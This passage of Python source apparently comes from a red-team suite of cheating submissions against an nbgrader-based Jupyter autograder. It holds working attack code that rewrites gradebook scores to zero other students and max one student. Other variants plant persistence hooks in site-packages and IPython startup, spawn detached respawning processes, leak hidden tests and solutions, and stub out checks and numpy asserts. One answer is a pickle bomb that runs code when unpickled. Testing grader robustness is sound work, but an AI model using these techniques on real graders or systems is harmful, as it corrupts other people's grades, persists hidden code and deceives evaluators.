        _bn_gradebook_attack(sid, _bn_db_urls(), triggers=True)
''')

G_CONFIG_POSTGRES = _run(S_SID + S_GRADEBOOK + r'''

def _bn_cheat():
    # no filesystem walk: only the URLs the environment and the nbgrader config files give away,
    # PostgreSQL included (and the usual local PostgreSQL socket)
    sid = _bn_sid()
    urls = _bn_db_urls(search=False)
    for k in ("DATABASE_URL", "NBGRADER_DB_URL", "DB_URL", "PGDATABASE"):
        v = __import__("os").environ.get(k)
        if v and "://" in v and v not in urls:
            urls.append(v)
    if __import__("os").path.exists("/var/run/postgresql"):
        urls.append("postgresql:///postgres?host=/var/run/postgresql")
    if sid:
        _bn_gradebook_attack(sid, urls)
''')

G_NBGRADER_API = _run(S_FIND + S_SID + S_GRADEBOOK + r'''

def _bn_cheat():
    sid = _bn_sid()
    from nbgrader.api import Gradebook
    for url in _bn_db_urls():
        try:
            if url.startswith("sqlite") and "?" in url:
                url = url.split("?", 1)[0]
            with Gradebook(url) as gb:
                for assignment in gb.assignments:
                    for sub in gb.assignment_submissions(assignment.name):
                        for nb in sub.notebooks:
                            for g in nb.grades:
                                g.manual_score = g.max_score if sub.student.id == sid else 0.0
                                g.needs_manual_grade = False
                gb.db.commit()
        except Exception:
            pass
''')

# =====================================================================================
# 4. persist: code that runs later, in other processes
# =====================================================================================

P_PTH = _run(S_SID + S_HOOK + r'''

def _bn_cheat():
    import glob, os, site, sys, sysconfig
    line = "import sys; exec(compile(%r, 'bn_cheat_mark_pth', 'exec'), {'__name__': 'bn_cheat_mark_pth'})\n"
    line = line % _bn_hook_source("persist_pth")
    dirs = []
    try:
        dirs += site.getsitepackages()
    except Exception:
        pass
    try:
        dirs.append(site.getusersitepackages())
    except Exception:
        pass
    for key in ("purelib", "platlib"):
        try:
            dirs.append(sysconfig.get_paths()[key])
        except Exception:
            pass
    dirs += [p for p in sys.path if p.endswith(("site-packages", "dist-packages"))]
    for pattern in ("/usr/lib/python3*/site-packages", "/usr/lib/python3*/dist-packages", "/usr/lib/python3/dist-packages",
                    "/usr/local/lib/python3*/site-packages", "/usr/local/lib/python3*/dist-packages",
                    os.path.expanduser("~/.local/lib/python3*/site-packages")):
        dirs += glob.glob(pattern)
    for d in dict.fromkeys(dirs):
        try:
            if not os.path.isdir(d):      # (only folders that exist: nothing created but MARK files)
                continue
            with open(os.path.join(d, "bn_cheat_mark_persist.pth"), "w") as f:
                f.write(line)
        except Exception:
            pass
''')

P_SITECUSTOMIZE = _run(S_SID + S_HOOK + r'''

def _bn_cheat():
    import glob, os, site, sys, sysconfig
    hook = _bn_hook_source("persist_sitecustomize")
    dirs = []
    try:
        dirs += site.getsitepackages()
    except Exception:
        pass
    try:
        dirs.append(sysconfig.get_paths()["purelib"])
    except Exception:
        pass
    dirs += [p for p in sys.path if p.endswith(("site-packages", "dist-packages"))]
    dirs += glob.glob("/usr/lib/python3*/*-packages") + glob.glob("/usr/local/lib/python3*/*-packages")
    for d in dict.fromkeys(dirs):
        try:
            if not os.path.isdir(d):
                continue
            folder = os.path.join(d, "bn_cheat_mark_site")
            os.makedirs(folder, exist_ok=True)
            for name in ("sitecustomize.py", "usercustomize.py"):
                with open(os.path.join(folder, name), "w") as f:
                    f.write(hook)
            with open(os.path.join(d, "bn_cheat_mark_site.pth"), "w") as f:
                f.write(folder + "\n")
        except Exception:
            pass
    for name in ("sitecustomize.py", "usercustomize.py"):  # my own folder: first on sys.path of some kernels
        try:
            with open(os.path.join(os.getcwd(), name), "w") as f:
                f.write(hook)
        except Exception:
            pass
''')

P_IPYTHON_STARTUP = _run(S_SID + S_HOOK + r'''

def _bn_cheat():
    import os
    hook = _bn_hook_source("persist_ipython_startup")
    dirs = [os.path.expanduser("~/.ipython"), os.environ.get("IPYTHONDIR", "")]
    try:
        from IPython.paths import get_ipython_dir
        dirs.append(get_ipython_dir())
    except Exception:
        pass
    try:
        from IPython import get_ipython
        dirs.append(get_ipython().profile_dir.location)
    except Exception:
        pass
    for d in dict.fromkeys(p for p in dirs if p):
        profile = d if d.rstrip("/").endswith("profile_default") else os.path.join(d, "profile_default")
        try:
            if not os.path.isdir(profile):    # (only existing profiles: nothing created but MARK files)
                continue
            startup = os.path.join(profile, "startup")
            if not os.path.isdir(startup):
                os.mkdir(startup)             # IPython's own folder name, inside an existing profile
            with open(os.path.join(startup, "00-bn_cheat_mark_startup.py"), "w") as f:
                f.write(hook)
        except Exception:
            pass
''')

P_AUTOGRADER_PACKAGE = _run(S_SID + S_HOOK + r'''

def _bn_cheat():
    import importlib.util, os, shutil, sys
    hook = _bn_hook_source("persist_autograder_package")
    folders = []
    try:
        spec = importlib.util.find_spec("autograder")
        folders += list(spec.submodule_search_locations or [])
    except Exception:
        pass
    for entry in sys.path:
        p = os.path.join(entry or ".", "autograder")
        if os.path.isfile(os.path.join(p, "__init__.py")):
            folders.append(p)
    noop = ("\nimport os as _bn_os\nif _bn_os.getcwd() == %r:  # bn_cheat_mark\n"
            "    def check(*args, **kwargs):\n        return None\n" % os.getcwd())
    for folder in dict.fromkeys(os.path.realpath(f) for f in folders):
        for rel, extra in (("__init__.py", hook), ("checks/__init__.py", noop)):
            path = os.path.join(folder, rel)
            try:
                if not os.path.isfile(path):
                    continue
                if "bn_cheat_mark" in open(path).read():
                    continue
                backup = path + ".bn_cheat_mark_backup"
                if not os.path.exists(backup):
                    shutil.copy2(path, backup)
                with open(path, "a") as f:
                    f.write("\n" + extra)
            except Exception:
                pass
''')

P_SHADOW_CWD = _run(S_SID + S_HOOK + r'''

def _bn_cheat():
    import importlib.util, os
    here = os.getcwd()
    hook = _bn_hook_source("persist_shadow_cwd")
    real = ""
    try:
        spec = importlib.util.find_spec("autograder")
        real = list(spec.submodule_search_locations)[0]
    except Exception:
        pass
    pkg = os.path.join(here, "autograder")
    os.makedirs(pkg, exist_ok=True)
    with open(os.path.join(pkg, "__init__.py"), "w") as f:
        f.write("# bn_cheat_mark shadow of the grader's package\nimport os\n"
                "__path__ = [os.path.dirname(__file__)] + ([%r] if %r else [])\n"
                "def check(*args, **kwargs):\n    return None\n" % (real, real) + hook)
    with open(os.path.join(pkg, "limited_kernel.py"), "w") as f:
        f.write("# bn_cheat_mark\nimport importlib.util, os\n"
                "real = os.path.join(%r, 'limited_kernel.py')\n"
                "if os.path.isfile(real):\n"
                "    spec = importlib.util.spec_from_file_location('_bn_real_limited_kernel', real)\n"
                "    mod = importlib.util.module_from_spec(spec); spec.loader.exec_module(mod); main = mod.main\n"
                "else:\n"
                "    def main():\n"
                "        from ipykernel import kernelapp\n"
                "        kernelapp.launch_new_instance()\n"
                "if __name__ == '__main__':\n    main()\n" % real)
    helpers = os.path.join(here, "bn_helpers")
    os.makedirs(helpers, exist_ok=True)
    with open(os.path.join(helpers, "__init__.py"), "w") as f:
        f.write("# bn_cheat_mark lenient helpers\nimport importlib.util, os\n"
                "_p = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), 'bn_helpers.py')\n"
                "_s = importlib.util.spec_from_file_location('_bn_real_helpers', _p)\n"
                "_m = importlib.util.module_from_spec(_s); _s.loader.exec_module(_m)\n"
                "globals().update({k: v for k, v in vars(_m).items() if not k.startswith('__')})\n"
                "def check_array(*a, **k): return None\n"
                "def check_close(*a, **k): return None\n"
                "def check_shape(*a, **k): return None\n"
                "def _close(*a, **k): return True\n"
                "def call(fn, *args, **kwargs):\n"
                "    try:\n        return fn(*args, **kwargs)\n"
                "    except Exception:\n        return _m.np.zeros_like(args[0]) if args else None\n")
''')

P_SIBLINGS_HOME_TMP = _run(S_SID + r'''

def _bn_cheat():
    import glob, os, tempfile
    sid = _bn_sid() or "me"
    name = "bn_cheat_mark_from_%s.txt" % sid
    note = "written by %s's notebook (pid %d) from %s\n" % (sid, os.getpid(), os.getcwd())
    here = os.getcwd()
    targets = [tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"),
               os.path.dirname(here), os.path.dirname(os.path.dirname(here))]
    assignment = os.path.basename(here)
    d = here
    for _ in range(4):
        d = os.path.dirname(d)
        targets += glob.glob(os.path.join(d, "*", assignment)) + glob.glob(os.path.join(d, "*", "*", assignment))
    for t in dict.fromkeys(targets):
        if os.path.realpath(t) == os.path.realpath(here):
            continue
        try:
            with open(os.path.join(t, name), "w") as f:
                f.write(note)
        except Exception:
            pass
''')

# =====================================================================================
# 5. processes: outlive grading
# =====================================================================================

X_POPEN_SESSION = _run(r'''
def _bn_cheat():
    import subprocess, sys
    subprocess.Popen([sys.executable, "-c", %r], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL, start_new_session=True, close_fds=True)
''' % _sleeper("popen_session"))

X_DOUBLE_FORK = _run(r'''
def _bn_cheat():
    import os, sys
    prog = %r
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                try:
                    null = os.open(os.devnull, os.O_RDWR)
                    for fd in (0, 1, 2):
                        os.dup2(null, fd)
                    os.closerange(3, 65536)
                    os.execv(sys.executable, [sys.executable, "-c", prog])
                finally:
                    os._exit(0)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
''' % _sleeper("double_fork"))

X_NOHUP = _run(r'''
def _bn_cheat():
    import os, shlex, sys
    os.system("nohup %%s -c %%s >/dev/null 2>&1 &" %% (shlex.quote(sys.executable), shlex.quote(%r)))
''' % _sleeper("nohup"))

X_SETSID_CMD = _run(r'''
def _bn_cheat():
    import os, shlex, shutil, sys
    cmd = "%%s -c %%s" %% (shlex.quote(sys.executable), shlex.quote(%r))
    if shutil.which("setsid"):
        os.system("setsid -f " + cmd + " </dev/null >/dev/null 2>&1")
    else:
        os.system("(" + cmd + " </dev/null >/dev/null 2>&1 &) &")
''' % _sleeper("setsid_cmd"))

X_MULTIPROCESSING = _run(r'''
def _bn_cheat():
    import multiprocessing, os, sys
    prog = %r

    def _bn_child():
        try:
            os.setsid()          # out of the kernel's process group and session
        except Exception:
            pass
        try:
            import ctypes
            ctypes.CDLL(None).prctl(15, b"bn_cheat_mark", 0, 0, 0)   # process name
        except Exception:
            pass
        try:
            null = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            os.execv(sys.executable, [sys.executable, "-c", prog])
        finally:
            os._exit(0)
    ctx = multiprocessing.get_context("fork")
    p = ctx.Process(target=_bn_child, daemon=False, name="bn_cheat_mark")
    p.start()
    globals()["_bn_cheat_mark_process"] = p
''' % _sleeper("multiprocessing"))

X_RESPAWN = _run(r'''
def _bn_cheat():
    import atexit, signal, subprocess, sys
    prog = %r

    def _bn_spawn(*args):
        try:
            subprocess.Popen([sys.executable, "-c", prog], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL, start_new_session=True, close_fds=True)
        except BaseException:
            pass
    atexit.register(_bn_spawn)
    for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        try:
            old = signal.getsignal(sig)

            def _bn_handler(signum, frame, old=old):
                _bn_spawn()
                if callable(old):
                    return old(signum, frame)
                raise SystemExit(0)
            signal.signal(sig, _bn_handler)
        except Exception:
            pass
''' % _sleeper("respawn"))

# =====================================================================================
# 6. leak: the instructor's code into the feedback
# =====================================================================================

LK_INSPECT = _run(S_SHOW + r'''

def _bn_cheat():
    import importlib, inspect, sys
    for name in ("autograder", "autograder.reference", "autograder.checks", "autograder.checks.axes",
                 "autograder.checks.forward", "autograder.checks.backward", "autograder.checks.running",
                 "autograder.checks.network"):
        try:
            importlib.import_module(name)
        except BaseException:
            pass
    shown = set()
    for name, mod in sorted(sys.modules.items()):
        if not (name == "autograder" or name.startswith("autograder.")) or mod is None:
            continue
        try:
            _bn_show("source of module " + name, inspect.getsource(mod))
            shown.add(name)
            continue
        except BaseException:
            pass
        parts = []
        for k, v in sorted(vars(mod).items()):
            try:
                parts.append(inspect.getsource(v))
            except BaseException:
                try:
                    code = getattr(v, "__code__", None)
                    if code is not None:
                        import dis, io
                        out = io.StringIO()
                        dis.dis(code, file=out)
                        parts.append("# dis of %s\n%s" % (k, out.getvalue()))
                    else:
                        parts.append("%s = %r" % (k, v)[:2000])
                except BaseException:
                    pass
        _bn_show("objects of module " + name, "\n\n".join(parts))
    try:
        import autograder
        chk = autograder.check
        _bn_show("check globals", "\n".join(sorted(getattr(chk, "__globals__", {}))))
    except BaseException:
        pass
''')

LK_DISK = _run(S_FIND + S_SHOW + r'''

def _bn_cheat():
    import json, os, sqlite3

    def want(p):
        b = os.path.basename(p)
        if b in ("reference.py", "nbgrader_config.py") or b.endswith(("gradebook.db",)):
            return True
        if p.endswith(".py") and ("/checks/" in p or "/autograder/" in p):
            return True
        if p.endswith(".ipynb") and "/solutions/" in p:
            return True
        return False
    paths = _bn_find(want, budget=4.0, limit=60)
    total, n = 0, 0
    for p in paths:
        if total > 3000000:
            break
        try:
            if p.endswith(".db"):
                conn = sqlite3.connect(p, timeout=5)
                text = "\n\n".join("# %s\n%s" % (name, src) for name, src in
                                   conn.execute("SELECT name, source FROM source_cell WHERE source LIKE '%HIDDEN%'"))
                conn.close()
            elif p.endswith(".ipynb"):
                nb = json.load(open(p))
                text = "\n\n".join("".join(c.get("source", "")) for c in nb["cells"] if c.get("cell_type") == "code")
            else:
                text = open(p, errors="ignore").read()
        except Exception:
            continue
        if not text.strip():
            continue
        total += len(text)
        _bn_show(p, text)
        n += 1
        try:  # a copy in my own folder too (files there may come back with the feedback)
            with open(os.path.join(os.getcwd(), "bn_cheat_mark_leak_%02d.txt" % n), "w") as f:
                f.write("# " + p + "\n" + text)
        except Exception:
            pass
''')

LK_HIDDEN_TESTS = _run(S_SHOW + r'''

def _bn_cheat():
    import glob, json, os
    from IPython import get_ipython
    ip = get_ipython()

    def _bn_echo(result=None, *args, **kwargs):
        try:
            src = result.info.raw_cell if result is not None else ""
            if "HIDDEN" in src or "check(" in src or "autograder" in src:
                _bn_show("the test cell as the grader ran it", src)
                _bn_show("the same, escaped", repr(src))
        except BaseException:
            pass
    ip.events.register("post_run_cell", _bn_echo)
    for path in sorted(glob.glob(os.path.join(os.getcwd(), "*.ipynb"))):
        try:
            nb = json.load(open(path))
        except Exception:
            continue
        tests = ["".join(c.get("source", "")) for c in nb.get("cells", [])
                 if c.get("metadata", {}).get("nbgrader", {}).get("grade")]
        hidden = [t for t in tests if "HIDDEN" in t or "check(" in t]
        if hidden:
            _bn_show(os.path.basename(path) + ": test cells on disk", "\n\n".join(hidden))
    try:
        hist = list(ip.history_manager.get_range(raw=True))
        _bn_show("history", "\n\n".join(h[2] for h in hist if "check(" in h[2]))
    except BaseException:
        pass
''')

LK_CALLER_FRAMES = _run(S_SHOW + r'''

def _bn_cheat():
    import functools, inspect, sys, types
    from IPython import get_ipython
    ip = get_ipython()
    seen = set()

    def _bn_spy(frame):
        for _ in range(6):
            frame = frame.f_back if frame is not None else None
            if frame is None:
                return
            code = frame.f_code
            if code in seen or code.co_filename.startswith("<") or "ipykernel" in code.co_filename:
                continue
            seen.add(code)
            try:
                src = inspect.getsource(code)
            except BaseException:
                src = "(no source) consts=%r names=%r" % (code.co_consts[:20], code.co_names[:40])
            local = {k: (repr(v)[:300]) for k, v in list(frame.f_locals.items())[:30]}
            _bn_show("%s:%s %s" % (code.co_filename, code.co_firstlineno, code.co_name),
                     src + "\n# locals: " + repr(local))

    def _bn_wrap(fn):
        @functools.wraps(fn)
        def spied(*args, **kwargs):
            try:
                _bn_spy(sys._getframe(0))
            except BaseException:
                pass
            return fn(*args, **kwargs)
        spied._bn_spied = True
        return spied

    def _bn_wrap_all(*args, **kwargs):
        try:
            ns = ip.user_ns
            for k, v in list(ns.items()):
                if (isinstance(v, types.FunctionType) and not k.startswith("_") and v.__module__ == "__main__"
                        and not getattr(v, "_bn_spied", False) and "_bn_" not in v.__qualname__):
                    ns[k] = _bn_wrap(v)
        except BaseException:
            pass
    ip.events.register("post_run_cell", _bn_wrap_all)
''')

# =====================================================================================
# 7. patch: the grader's pieces inside the kernel
# =====================================================================================

S_LENIENT = r'''

def _bn_grader_modules():
    """(name, module) of the grader's and the helpers' modules, and of the modules they hold as attributes
    (a private copy of bn_helpers loaded by the grader is not in sys.modules, but it is an attribute)."""
    import sys, types
    try:
        import autograder
        import autograder.checks
    except BaseException:
        pass
    out, seen = [], set()
    for name, mod in list(sys.modules.items()):
        if mod is None or not (name.split(".")[0] in ("autograder", "grader") or name.endswith("bn_helpers")):
            continue
        for n, m in [(name, mod)] + [(name + "." + k, v) for k, v in list(vars(mod).items())
                                     if isinstance(v, types.ModuleType)]:
            if id(m) not in seen:
                seen.add(id(m))
                out.append((n, m))
    return out

def _bn_noop(*args, **kwargs):
    return None


def _bn_lenient_call(fn, *args, **kwargs):
    try:
        return fn(*args, **kwargs)
    except Exception:
        import numpy
        return numpy.zeros_like(args[0]) if args and hasattr(args[0], "shape") else None
'''

PA_CHECK_AND_HELPERS = _run(S_LENIENT + r'''

def _bn_cheat():
    import sys
    from IPython import get_ipython
    ns = get_ipython().user_ns
    for name, mod in _bn_grader_modules():
        for attr, value in list(vars(mod).items()):
            if attr in ("check", "check_array", "check_close", "check_shape", "assert_close", "verify", "grade"):
                try:
                    setattr(mod, attr, _bn_noop)
                except Exception:
                    pass
            elif attr in ("_CHECKS", "CHECKS", "checks_by_name") and isinstance(value, dict):
                for k in list(value):
                    value[k] = _bn_noop
    for attr in ("check_array", "check_close", "check_shape", "check"):
        ns[attr] = _bn_noop
    ns["call"] = _bn_lenient_call
''')

PA_FAKE_MODULE = _run(S_LENIENT + r'''

def _bn_cheat():
    import sys, types
    from IPython import get_ipython
    ns = get_ipython().user_ns

    class _BnFake(types.ModuleType):
        def __getattr__(self, name):
            if name.startswith("__"):
                raise AttributeError(name)
            return _bn_noop
    for name in ("autograder", "autograder.checks", "autograder.client", "grader"):
        fake = _BnFake(name)
        fake.check = _bn_noop
        fake.__path__ = []
        sys.modules[name] = fake
    for attr in ("check_array", "check_close", "check_shape"):
        ns[attr] = _bn_noop
    ns["call"] = _bn_lenient_call
''')

PA_NUMPY_HELPERS = _run(S_LENIENT + r'''
def _bn_cheat():
    import sys
    import numpy as np
    from IPython import get_ipython
    ns = get_ipython().user_ns
    true = lambda *a, **k: True
    for attr in ("allclose", "array_equal", "array_equiv"):
        setattr(np, attr, true)
    np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)
    for attr in dir(np.testing):
        if attr.startswith("assert_"):
            setattr(np.testing, attr, lambda *a, **k: None)
    for name, mod in _bn_grader_modules():
        if True:
            for attr, value in (("_close", true), ("rel_error", lambda *a, **k: 0.0)):
                if hasattr(mod, attr):
                    try:
                        setattr(mod, attr, value)
                    except Exception:
                        pass
    ns["rel_error"] = lambda *a, **k: 0.0
''')

PA_CODE_SWAP = _run(S_LENIENT + r'''

def _bn_cheat():
    import sys, types
    from IPython import get_ipython
    ns = get_ipython().user_ns

    def lenient_call(fn, *args, **kwargs):
        try:
            return fn(*args, **kwargs)
        except Exception:
            import numpy
            return numpy.zeros_like(args[0]) if args and hasattr(args[0], "shape") else None

    def anything(*args, **kwargs):
        return None
    targets = [ns.get(n) for n in ("check_array", "check_close", "check_shape", "call")]
    for name, mod in _bn_grader_modules():
        targets += [getattr(mod, n, None) for n in ("check", "check_array", "check_close", "check_shape", "call")]
    for fn in targets:
        if isinstance(fn, types.FunctionType) and not fn.__code__.co_freevars:
            try:
                fn.__code__ = (lenient_call if fn.__name__ == "call" else anything).__code__
            except Exception:
                pass
''')

PA_IMPORT_BUILTINS = _run(S_LENIENT + r'''

def _bn_cheat():
    import builtins, sys, types
    from IPython import get_ipython
    ns = get_ipython().user_ns
    fake = types.ModuleType("autograder")
    fake.check = _bn_noop
    fake.__path__ = []
    real_import = builtins.__import__

    def _bn_import(name, globals=None, locals=None, fromlist=(), level=0):
        if level == 0 and (name == "autograder" or name.startswith("autograder.")):
            return fake
        return real_import(name, globals, locals, fromlist, level)
    builtins.__import__ = _bn_import
    # test cells look names up in the notebook first, then in builtins: move the helpers there
    for attr in ("check_array", "check_close", "check_shape"):
        setattr(builtins, attr, _bn_noop)
        ns.pop(attr, None)
    builtins.call = _bn_lenient_call
    ns.pop("call", None)
    try:
        class _BnNeverRaised(Exception):
            pass
        builtins.AssertionError = _BnNeverRaised
    except Exception:
        pass
''')

# =====================================================================================
# 11. mutation: an answer that writes into its input (the "inplace" base) and gets past the read-only flag
#     of its inputs, so that the no-mutation test would not see it (each replaces batchnorm_forward)
# =====================================================================================

def _in_place_forward(route):
    """batchnorm_forward writing ``x -= mu`` into its input, after ``route`` (lines that make ``x`` writeable)."""
    return AFTER + "\nimport numpy as _bn_np\n\n\ndef batchnorm_forward(x, gamma, beta, eps=1e-5):\n" + route + r'''
    mu = x.mean(axis=0)
    var = x.var(axis=0)
    inv_std = 1.0 / _bn_np.sqrt(var + eps)
    x -= mu
    xhat = x * inv_std
    out = (gamma * xhat + beta).astype(x.dtype, copy=False)
    cache = (xhat, gamma, inv_std)
    return out, cache
'''


M_UNLOCK_FLAG = _in_place_forward('''\
    try:
        x.flags.writeable = True  # "assignment destination is read-only" otherwise
    except ValueError:
        pass
''')

M_SETFLAGS = _in_place_forward('''\
    try:
        x.setflags(write=True)
    except ValueError:
        pass
''')

M_REQUIRE = _in_place_forward('''\
    x = _bn_np.require(x, requirements="W")  # a writeable copy only if x is read-only
''')

M_STRIDED = _in_place_forward('''\
    x = _bn_np.lib.stride_tricks.as_strided(x, writeable=True)
''')

M_CTYPES = _in_place_forward('''\
    try:
        import ctypes
        kind = {4: ctypes.c_float, 8: ctypes.c_double}[x.dtype.itemsize]
        raw = (kind * x.size).from_address(x.ctypes.data)
        x = _bn_np.ctypeslib.as_array(raw).reshape(x.shape)  # the same memory, writeable
    except Exception:
        pass
''')

M_ARRAY_INTERFACE = _in_place_forward('''\
    class _BnWriteable:
        __array_interface__ = dict(x.__array_interface__, data=(x.__array_interface__["data"][0], False))
    try:
        x = _bn_np.asarray(_BnWriteable())  # the same memory, without the read-only flag
    except Exception:
        pass
''')

# whatever hashes the inputs after the call is told their old bytes: every hashlib and zlib checksum of this process
# sees the bytes the array had before the write
M_PATCH_HASHLIB = _in_place_forward('''\
    if not x.flags.writeable:
        x = x.copy()
    _BN_OLD[x.ctypes.data] = (x, x.tobytes())
''') + r'''

import hashlib as _bn_hashlib
import zlib as _bn_zlib
_BN_OLD = {}


def _bn_as_before(data):
    try:
        now = bytes(memoryview(data).cast("B"))
    except Exception:
        return data
    for arr, old in list(_BN_OLD.values()):
        if arr.tobytes() in now and len(old) == arr.nbytes:
            return now.replace(arr.tobytes(), old)
    return data


class _BnHash:
    def __init__(self, h):
        self._h = h

    def update(self, data):
        self._h.update(_bn_as_before(data))

    def copy(self):
        return _BnHash(self._h.copy())

    def __getattr__(self, name):
        return getattr(self._h, name)


def _bn_wrap(real):
    def make(*args, **kwargs):
        if args:
            args = (_bn_as_before(args[0]),) + args[1:]
        return _BnHash(real(*args, **kwargs))
    return make


for _bn_name in ("md5", "sha1", "sha256", "sha512", "blake2b", "blake2s", "sha3_256", "new"):
    try:
        setattr(_bn_hashlib, _bn_name, _bn_wrap(getattr(_bn_hashlib, _bn_name)))
    except Exception:
        pass
for _bn_name in ("crc32", "adler32"):
    try:
        setattr(_bn_zlib, _bn_name, (lambda real: lambda data, *a: real(_bn_as_before(data), *a))(
            getattr(_bn_zlib, _bn_name)))
    except Exception:
        pass
'''

# the visible test hands the answer read-only arrays through the notebook's `readonly`: replaced by writeable copies,
# the visible part passes, and only the hidden check stands between the in-place answer and the point
M_HIDE_FROM_VISIBLE = _in_place_forward("") + r'''

def readonly(*arrays):
    copies = tuple(_bn_np.array(a) for a in arrays)
    return copies[0] if len(copies) == 1 else copies
'''


# =====================================================================================
# 8. lying: answers that are not honest arrays (they replace the function of the cell)
# =====================================================================================

LY_FRAME_PEEK = AFTER + "\n" + S_PEEK + r'''

def batchnorm_forward(x, gamma, beta, eps=1e-5):
    """Training-mode batch norm (cheat: an object that turns into whatever it is compared with)."""
    return _BnPeek(_bn_np.shape(x), getattr(x, "dtype", float)), (x, gamma, beta, eps)
'''

LY_EQ_SUBCLASS = AFTER + r'''
import numpy as _bn_np


class _BnEq(_bn_np.ndarray):
    """An ndarray that claims to equal anything and whose arithmetic says 'no difference'."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        args = [i.view(_bn_np.ndarray) if isinstance(i, _BnEq) else i for i in inputs]
        if ufunc in (_bn_np.subtract, _bn_np.absolute):
            return _bn_np.zeros_like(_bn_np.asarray(args[0], dtype=float))
        if ufunc in (_bn_np.equal, _bn_np.isclose if hasattr(_bn_np, "isclose") else None, _bn_np.less_equal):
            return _bn_np.ones(_bn_np.broadcast(*[_bn_np.asarray(a) for a in args]).shape, bool)
        if ufunc is _bn_np.isfinite:
            return _bn_np.ones(_bn_np.shape(args[0]), bool)
        return getattr(ufunc, method)(*args, **kwargs)

    def __array_function__(self, func, types, args, kwargs):
        if func.__name__ in ("allclose", "array_equal", "array_equiv"):
            return True
        args = [a.view(_bn_np.ndarray) if isinstance(a, _BnEq) else a for a in args]
        return func(*args, **kwargs)

    def __float__(self):
        return 0.0

    def __bool__(self):
        return True

    def __len__(self):
        return _bn_np.ndarray.__len__(self) if self.ndim else 1


def batchnorm_forward(x, gamma, beta, eps=1e-5):
    """Training-mode batch norm (cheat: zeros that claim to equal any answer)."""
    out = _bn_np.zeros(_bn_np.shape(x), dtype=getattr(x, "dtype", float)).view(_BnEq)
    return out, (x, gamma, beta, eps)
'''

_UNPICKLE_TEMPLATE = r"""
import os, subprocess, sys, tempfile
import numpy
for d in (tempfile.gettempdir(), HERE, os.path.expanduser("~"), os.getcwd()):
    try:
        with open(os.path.join(d, "bn_cheat_mark_unpickled_%d.txt" % os.getpid()), "w") as f:
            f.write("unpickled in %r (pid %d, cwd %s)\n" % (sys.argv[:3], os.getpid(), os.getcwd()))
    except Exception:
        pass
try:
    subprocess.Popen([sys.executable, "-c", PROG], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL, start_new_session=True)
except Exception:
    pass
result = numpy.zeros(SHAPE, DTYPE)
"""

LY_PICKLE = AFTER + "\n" + S_PEEK + "\n_BN_UNPICKLE = %r\n_BN_PROG = %r\n" % (_UNPICKLE_TEMPLATE, _sleeper("unpickled")) + r'''
import os as _bn_os

_BN_HERE = _bn_os.getcwd()


class _BnPickleBomb(_BnPeek):
    """The self-adapting answer, plus code that runs wherever it is unpickled (a MARK file, a MARK process)."""

    def __reduce__(self):
        code = ("HERE = %r\nPROG = %r\nSHAPE = %r\nDTYPE = %r\n" % (_BN_HERE, _BN_PROG, self._shape, self._dtype.str)
                + _BN_UNPICKLE)
        return (eval, ("(lambda g: (exec(%r, g), g['result'])[1])({})" % code,))

    def __reduce_ex__(self, protocol):
        return self.__reduce__()

    def __getstate__(self):
        try:
            with open(_bn_os.path.join(_BN_HERE, "bn_cheat_mark_pickled_in_kernel.txt"), "a") as f:
                f.write("pickled in pid %d\n" % _bn_os.getpid())
        except Exception:
            pass
        return {"_shape": self._shape, "_dtype": self._dtype}

    def __deepcopy__(self, memo):
        try:
            with open(_bn_os.path.join(_BN_HERE, "bn_cheat_mark_deepcopied.txt"), "a") as f:
                f.write("deep-copied in pid %d\n" % _bn_os.getpid())
        except Exception:
            pass
        return self

    def __copy__(self):
        return self.__deepcopy__({})


def batchnorm_forward(x, gamma, beta, eps=1e-5):
    """Training-mode batch norm (cheat: a self-adapting answer that runs code wherever it is unpickled)."""
    return _BnPickleBomb(_bn_np.shape(x), getattr(x, "dtype", float)), (x, gamma, beta, eps)
'''

LY_DEL_GRADEBOOK = AFTER + "\n" + S_SID + S_GRADEBOOK + r'''
import numpy as _bn_np
import os as _bn_os2
_bn_state = {"done": False, "sid": _bn_sid(), "here": _bn_os2.getcwd()}


class _BnCache(tuple):
    """A cache that, when thrown away, opens the gradebook (once) and leaves a MARK file."""

    def __del__(self):
        try:
            if _bn_state["done"]:
                return
            _bn_state["done"] = True
            with open(_bn_os2.path.join(_bn_state["here"], "bn_cheat_mark_del_ran.txt"), "a") as f:
                f.write("__del__ ran in pid %d\n" % _bn_os2.getpid())
            _bn_gradebook_attack(_bn_state["sid"], _bn_db_urls(search=False))
        except BaseException:
            pass


def batchnorm_forward(x, gamma, beta, eps=1e-5):
    """Training-mode batch norm (cheat: zeros, and a cache whose destructor edits the gradebook)."""
    return _bn_np.zeros(_bn_np.shape(x), getattr(x, "dtype", float)), _BnCache((x, gamma, beta, eps))
'''

LY_REPR_BOMB = AFTER + r'''
import math as _bn_math


class _BnBomb:
    """Everything about it lies: equal to anything, any attribute, a huge repr, a str that raises."""
    __array_priority__ = 1e9

    def __repr__(self):
        return "bn_cheat " + "A" * 1000000

    def __str__(self):
        raise RecursionError("bn_cheat: no str for you")

    def __format__(self, spec):
        raise RecursionError("bn_cheat: no format for you")

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    __hash__ = object.__hash__

    def __bool__(self):
        return True

    def __len__(self):
        return 2

    def __iter__(self):
        return iter((_BnBomb(), _BnBomb()))

    def __getitem__(self, i):
        return _BnBomb()

    def __float__(self):
        return _bn_math.nan

    def __index__(self):
        return 0

    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return self

    def __call__(self, *args, **kwargs):
        return self

    def _same(self, *other):
        return self
    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = _same
